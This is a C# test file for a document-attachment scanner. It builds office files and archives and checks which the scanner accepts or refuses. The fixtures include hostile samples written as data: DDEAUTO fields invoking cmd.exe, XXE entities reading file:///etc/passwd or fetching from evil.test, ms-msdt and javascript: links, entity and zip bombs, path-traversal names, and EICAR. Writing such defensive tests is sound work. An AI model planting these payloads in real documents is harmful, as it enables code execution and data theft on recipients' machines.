using System.Text;
using static Parley.Tests.Attachments.Made;

namespace Parley.Tests.Attachments;

/// <summary>Office documents are zip archives that nobody can read differently, without anything that runs or fetches.</summary>
public sealed class Inspecting_office_documents
{
    const string Docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document", Odt = "application/vnd.oasis.opendocument.text";

    [Fact]
    public void Honest_documents_are_taken()
    {
        Assert.Equal(Docx, Verdict(Word(), "a.docx"));
        Assert.Equal(Docx, Verdict(Word(("word/_rels/document.xml.rels", Relations("hyperlink", "https://shop.example/item", "External"))), "a.docx"));
        Assert.Equal(Docx, Verdict(Word(("word/media/image1.png", "x"), ("docProps/app.xml", "<a/>")), "a.docx"));
        Assert.Equal(Odt, Verdict(OpenText(), "a.odt"));
        Assert.Equal(Odt, Verdict(OpenText("<c><text:a xlink:href='https://shop.example'/><draw:image xlink:href='Pictures/1.png'/><office:scripts/></c>", ("Pictures/1.png", "x")), "a.odt"));
    }

    [Fact]
    public void Documents_say_how_many_pages_they_have()
    {
        Assert.Equal(12, Inspect(Word(("docProps/app.xml", "<Properties><Words>7</Words><Pages>12</Pages><Company>9</Company></Properties>")), "a.docx").Content!.Pages);
        Assert.Equal(3, Inspect(OpenText(more: ("meta.xml", "<m><meta:document-statistic meta:page-count='3' meta:word-count='9'/></m>")), "a.odt").Content!.Pages);
        Assert.Equal(2, Inspect(Slides(), "a.pptx").Content!.Pages);
        Assert.Null(Inspect(Word(), "a.docx").Content!.Pages);
    }

    [Theory]
    [InlineData("<Properties><Pages/><Pages>-3</Pages></Properties>")]
    [InlineData("<Properties><Pages>0</Pages></Properties>")]
    [InlineData("<Properties><Pages>99999999999999999999</Pages></Properties>")]
    [InlineData("<Properties><Pages><b>2</b></Pages>")]
    public void Nonsense_about_pages_is_nothing_said(string properties)
    {
        var content = Inspect(Word(("docProps/app.xml", properties)), "a.docx").Content;
        Assert.Equal((Docx, null), (content?.MediaType, content?.Pages));
    }

    [Theory]
    [InlineData("application/vnd.ms-word.document.macroEnabled.main+xml", "a.docm")]
    [InlineData("application/vnd.ms-word.document.macroEnabled.main+xml", "a.docx")]
    [InlineData("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "a.xlsm")]
    [InlineData("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "a.dotx")]
    public void Macros_and_templates_are_of_no_allowed_type(string type, string name) => Assert.Equal("unsupported-file-type", Verdict(Zip(WordParts(type)), name));

    [Fact]
    public void Macros_are_found_whatever_their_part_is_called()
    {
        Assert.Equal("unsupported-file-type", Verdict(Word(("word/vbaProject.bin", "x")), "a.docx"));
        Assert.Equal("unsupported-file-type", Verdict(Word(("word/harmless.BIN", "x")), "a.docx"));
        Assert.Equal("unsupported-file-type", Verdict(OpenText(more: ("Basic/Standard/Module1.xml", "<x/>")), "a.odt"));
        Assert.Equal("unsupported-file-type", Verdict(OpenText(more: ("Scripts/python/a.py", "x")), "a.odt"));
    }

    [Theory]
    [InlineData("attachedTemplate", "https://evil.test/t.dotm", "External")]
    [InlineData("attachedTemplate", "file:///c:/t.dotm", "External")]
    [InlineData("image", "https://evil.test/track.png", "External")]
    [InlineData("image", "\\\\\\\\evil.test\\\\share", "External")]
    [InlineData("image", "https://evil.test/track.png", "")]
    [InlineData("oleObject", "embeddings/o.xml", "")]
    [InlineData("oleObject", "mhtml:https://evil.test/x!x", "External")]
    [InlineData("aFChunk", "chunk.html", "")]
    [InlineData("frame", "https://evil.test", "External")]
    [InlineData("externalLinkPath", "file:///other.xlsx", "External")]
    [InlineData("hyperlink", "javascript:alert(1)", "External")]
    [InlineData("hyperlink", "ms-msdt:/id", "External")]
    [InlineData("hyperlink", "file://evil.test/share", "External")]
    public void What_points_out_of_a_document_is_unsafe_but_for_plain_links(string kind, string target, string mode) =>
        Assert.Equal("unsafe-document", Verdict(Word(("word/_rels/settings.xml.rels", Relations(kind, target, mode))), "a.docx"));

    [Theory]
    [InlineData("<w:d><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType='end'/></w:d>")]
    [InlineData("<w:d><w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO x y</w:instrText><w:fldChar w:fldCharType='separate'/></w:d>")]
    [InlineData("<w:d><w:fldSimple w:instr=' INCLUDETEXT \"https://evil.test\"'/></w:d>")]
    public void Fields_that_run_or_fetch_are_unsafe(string document) =>
        Assert.Equal("unsafe-document", Verdict(Zip(WordParts(document: document)), "a.docx"));

    [Theory]
    [InlineData("<c><script:event-listener/></c>")]
    [InlineData("<c><office:script script:language='ooo:Basic'/></c>")]
    [InlineData("<c><draw:image xlink:href='https://evil.test/x.png'/></c>")]
    [InlineData("<c><draw:object xlink:href='../other.ods'/></c>")]
    [InlineData("<c><office:dde-source office:dde-application='cmd'/></c>")]
    [InlineData("<c><draw:object-ole xlink:href='./Object 1'/></c>")]
    [InlineData("<c><text:a xlink:href='vnd.sun.star.script:x'/></c>")]
    [InlineData("<c><text:section-source xlink:href='https://evil.test'/></c>")]
    public void OpenDocument_runs_and_fetches_nothing(string content) => Assert.Equal("unsafe-document", Verdict(OpenText(content), "a.odt"));

    [Fact]
    public void Entities_in_a_document_that_swell_are_too_complex_and_others_are_unsafe()
    {
        const string bomb = "<!DOCTYPE a [<!ENTITY a '&b;&b;'><!ENTITY b '&a;'>]><a>&a;</a>", fetch = "<!DOCTYPE a [<!ENTITY a SYSTEM 'https://evil.test'>]><a>&a;</a>";
        foreach (var (text, code) in new[] { (bomb, "file-too-complex"), (fetch, "unsafe-document") })
        {
            Assert.Equal(code, Verdict(Zip(WordParts(document: text)), "a.docx"));
            Assert.Equal(code, Verdict(Word(("docProps/app.xml", text)), "a.docx"));
            Assert.Equal(code, Verdict(Word(("word/_rels/document.xml.rels", text)), "a.docx"));
            Assert.Equal(code, Verdict(OpenText(text), "a.odt"));
        }
        Assert.Equal("unsafe-document", Verdict(Zip([.. Bytes2(WordParts()), ("customXml/item1.xml", Encoding.Unicode.GetBytes("\ufeff" + fetch))]), "a.docx"));
    }

    [Theory]
    [InlineData("ppaction://hlinksldjump", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]
    [InlineData("ppaction://program", "unsafe-document")]
    [InlineData("ppaction://macro?name=x", "unsafe-document")]
    public void A_click_on_a_slide_starts_nothing(string action, string verdict) =>
        Assert.Equal(verdict, Verdict(Word(("ppt/slides/slide1.xml", $"<p:s><a:hlinkClick r:id='r1' action='{action}'/></p:s>")), "a.docx"));

    [Fact]
    public void A_click_in_an_open_presentation_only_shows()
    {
        Assert.Equal(Odt, Verdict(OpenText("<c><presentation:event-listener script:event-name='dom:click' presentation:action='next-page'/></c>"), "a.odt"));
        Assert.Equal("unsafe-document", Verdict(OpenText("<c><presentation:event-listener presentation:action='execute' xlink:href='calc.exe'/></c>"), "a.odt"));
        Assert.Equal("unsafe-document", Verdict(OpenText("<c><presentation:event-listener x:action='show' script:language='ooo:script'/></c>"), "a.odt"));
    }

    [Fact]
    public void Embedded_programs_archives_and_objects_are_unsafe()
    {
        Assert.Equal("unsafe-document", Verdict(Zip([.. Bytes2(WordParts()), ("word/media/a.png", Bytes(0xd0, 0xcf, 0x11, 0xe0, new byte[20]))]), "a.docx"));
        Assert.Equal("unsafe-document", Verdict(Zip([.. Bytes2(WordParts()), ("word/media/a.png", Bytes("MZ", new byte[80]))]), "a.docx"));
        Assert.Equal("unsafe-document", Verdict(Zip([.. Bytes2(WordParts()), ("word/media/a.png", Zip(("a", "b")))]), "a.docx"));
        Assert.Equal("unsafe-document", Verdict(Word(("customXml/item1.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")), "a.docx"));
    }

    [Fact]
    public void The_table_behind_a_chart_is_looked_into()
    {
        var types = WordParts()[0].Item2.Replace("wordprocessingml.document.main", "spreadsheetml.sheet.main", StringComparison.Ordinal);
        var table = Zip([("[Content_Types].xml", types), ("_rels/.rels", Relations("officeDocument", "word/document.xml")), ("word/document.xml", "<x/>")]);
        var bad = Zip([("[Content_Types].xml", types), ("_rels/.rels", Relations("officeDocument", "word/document.xml")), ("word/document.xml", "<x/>"), ("xl/vbaProject.bin", "x")]);
        Assert.Equal(Docx, Verdict(Zip([.. Bytes2(WordParts()), ("word/embeddings/t.xlsx", table)]), "a.docx"));
        Assert.Equal("unsupported-file-type", Verdict(Zip([.. Bytes2(WordParts()), ("word/embeddings/t.xlsx", bad)]), "a.docx"));
        Assert.Equal("unsafe-document", Verdict(Zip([.. Bytes2(WordParts()), ("word/embeddings/t.xlsx", Zip(("a", "b")))]), "a.docx"));
    }

    [Fact]
    public void A_document_under_another_documents_name_is_refused()
    {
        Assert.Equal("unsupported-file-type", Verdict(Word(), "a.xlsx"));
        Assert.Equal("unsupported-file-type", Verdict(OpenText(), "a.docx"));
        Assert.Equal("invalid-file-name", Verdict(Word(), "a.docx.exe"));
    }

    [Fact]
    public void A_document_with_a_password_cannot_be_checked()
    {
        Assert.Equal("unscannable-file", Verdict(Bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, new byte[70_000], Encoding.Unicode.GetBytes("EncryptedPackage"), new byte[100]), "a.docx"));
        Assert.Equal("unsupported-file-type", Verdict(Bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, new byte[70_000]), "a.doc"));
        var odt = Zip([("mimetype", Odt), ("content.xml", "<c/>"), ("META-INF/manifest.xml", "<m><f><manifest:encryption-data/></f></m>")]);
        Assert.Equal("unscannable-file", Verdict(odt, "a.odt"));
    }

    static (string, byte[])[] Bytes2((string Name, string Content)[] parts) => [.. parts.Select(p => (p.Name, Encoding.UTF8.GetBytes(p.Content)))];
}

/// <summary>Archives are refused, each for its true reason, and none can be read in two ways.</summary>
public sealed class Inspecting_archives
{
    [Fact]
    public void An_archive_is_of_no_allowed_type()
    {
        Assert.Equal("unsupported-file-type", Verdict(Zip(("a.txt", "hello")), "a.zip"));
        Assert.Equal("unsupported-file-type", Verdict(Zip(("a.txt", "hello")), "a.docx"));
        Assert.Equal("unsupported-file-type", Verdict(Gzip(Bytes("hello")), "a.gz"));
        Assert.Equal("unsupported-file-type", Verdict(Bytes("7z\xbc\xaf\x27\x1c\0\0"), "a.7z"));
    }

    [Fact]
    public void Eicar_is_found_in_whatever_holds_it()
    {
        var word = WordDocument(("word/media/a.png", Eicar));
        foreach (var (name, bytes) in new (string, byte[])[]
                 {
                     ("a.txt", Eicar), ("a.com", Eicar), ("a.zip", Zip(("x", Eicar))), ("b.zip", Zip(("x.zip", Zip(("x", Eicar))))), ("c.zip", Zip(("x.gz", Gzip(Eicar)))), ("a.gz", Gzip(Eicar)),
                     ("b.gz", Gzip(Zip(("x", Eicar)))), ("a.docx", word), ("a.pdf", Bytes(Pdf(), Eicar)), ("a.jpg", Bytes(Jpeg(), Eicar)), ("a.tar", Bytes(new byte[512], Eicar, new byte[1000])),
                     ("a.odt", Zip([("mimetype", Bytes("application/vnd.oasis.opendocument.text")), ("content.xml", Bytes("<c/>")), ("Pictures/1.png", Bytes(Noise(100_000), Eicar))])),
                 })
            Assert.True(Verdict(bytes, name) == "infected-file", $"{name}: {Verdict(bytes, name)}");
    }

    [Fact]
    public void Eicar_is_found_across_the_borders_of_what_is_read_at_once()
    {
        for (var before = FileBytesChunk - 70; before < FileBytesChunk + 3; before++)
            Assert.Equal("infected-file", Verdict(Bytes(Enumerable.Repeat((byte)' ', before).ToArray(), Eicar, "\n"), "a.txt"));
    }

    [Fact]
    public void Bombs_are_too_complex_however_they_are_packed()
    {
        var much = new byte[12_000_000];
        Assert.Equal("file-too-complex", Verdict(Zip(("a", much)), "a.zip"));
        Assert.Equal("file-too-complex", Verdict(Gzip(much), "a.gz"));
        Assert.Equal("file-too-complex", Verdict(Gzip(Gzip(much)), "a.gz"));
        Assert.Equal("file-too-complex", Verdict(Zip(("a.zip", Zip(("b", much))), ("b.zip", Zip(("b", much)))), "a.zip"));
        Assert.Equal("file-too-complex", Verdict(Zip(("a.zip", Zip(("b.zip", Zip(("c.zip", Zip(("d", "e")))))))), "a.zip"));
        Assert.Equal("file-too-complex", Verdict(WordDocument(("word/media/a.bmp", much)), "a.docx"));
        Assert.Equal("file-too-complex", Verdict(Zip([.. Enumerable.Range(0, 5_000).Select(i => ($"{i}", Array.Empty<byte>()))]), "a.zip"));
    }

    [Fact]
    public void A_locked_archive_cannot_be_checked() => Assert.Equal("unscannable-file", Verdict(Altered(Zip(("a.txt", "hello")), "PK\x01\x02", 8, 1), "a.zip"));

    [Fact]
    public void A_file_that_says_it_is_smaller_than_it_is_is_found_out()
    {
        var honest = Zip([("a", new byte[5_000])]);
        var lying = Altered(Altered(honest, "PK\x01\x02", 24, 100, 0), "PK\x03\x04", 22, 100, 0);
        Assert.Equal("file-too-complex", Verdict(lying, "a.zip"));
    }

    [Fact]
    public void What_can_be_read_in_two_ways_is_ambiguous()
    {
        var zip = Zip(("a.txt", "hello"));
        Assert.Equal("ambiguous-file", Verdict(Altered(zip, "PK\x03\x04", 30, (byte)'b'), "a.zip"));
        Assert.Equal("ambiguous-file", Verdict(Altered(zip, "PK\x03\x04", 8, 0), "a.zip"));
        Assert.Equal("ambiguous-file", Verdict(Bytes(WordDocument(), zip), "a.docx"));
        Assert.Equal("damaged-file", Verdict(Bytes(WordDocument(), "trailing"), "a.docx"));
        Assert.Equal("ambiguous-file", Verdict(WordDocument(("WORD/document.xml", [])), "a.docx"));
        Assert.Equal("ambiguous-file", Verdict(Bytes(Pdf(), zip), "a.pdf"));
        Assert.Equal("ambiguous-file", Verdict(Bytes(Film(), Box("free", zip)), "a.mp4"));
    }

    [Fact]
    public void Files_that_lie_over_each_other_are_too_complex()
    {
        var zip = Zip(("a", Noise(2_000)), ("b", Noise(2_000)));
        var second = IndexOf(zip, "PK\x01\x02", 2);
        Assert.Equal("file-too-complex", Verdict([.. zip[..(second + 42)], .. new byte[4], .. zip[(second + 46)..]], "a.zip"));
    }

    [Theory]
    [InlineData("../../outside.txt")]
    [InlineData("..\\outside.txt")]
    [InlineData("C:\\outside.txt")]
    [InlineData("/outside.txt")]
    public void Names_that_lead_out_are_refused(string name) => Assert.Equal("unsafe-document", Verdict(WordDocument((name, Bytes("x"))), "a.docx"));

    [Fact]
    public void Cut_off_or_altered_anywhere_an_archive_is_refused_and_nothing_is_thrown()
    {
        var bytes = WordDocument(("word/media/a.png", Noise(50)));
        for (var length = 0; length < bytes.Length; length++) Assert.NotNull(Inspect(bytes[..length], "a.docx").Flaw);
        for (var i = 0; i < bytes.Length; i++)
            foreach (var b in new byte[] { 0, 0x80, 0xff })
            {
                var altered = (byte[])bytes.Clone();
                altered[i] = b;
                var verdict = Inspect(altered, "a.docx");
                Assert.True(verdict.Content is null != verdict.Flaw is null);
            }
    }

    const int FileBytesChunk = 64 * 1024;

    static byte[] WordDocument(params (string, byte[])[] more) => Zip([.. WordParts().Select(p => (p.Item1, Encoding.UTF8.GetBytes(p.Item2))), .. more]);

    static byte[] Altered(byte[] bytes, string record, int at, params byte[] values)
    {
        var copy = (byte[])bytes.Clone();
        values.CopyTo(copy, IndexOf(bytes, record, 1) + at);
        return copy;
    }

    static int IndexOf(byte[] bytes, string record, int nth)
    {
        var at = -1;
        for (; nth > 0; nth--) at += 1 + bytes.AsSpan(at + 1).IndexOf(Encoding.Latin1.GetBytes(record));
        return at;
    }
}
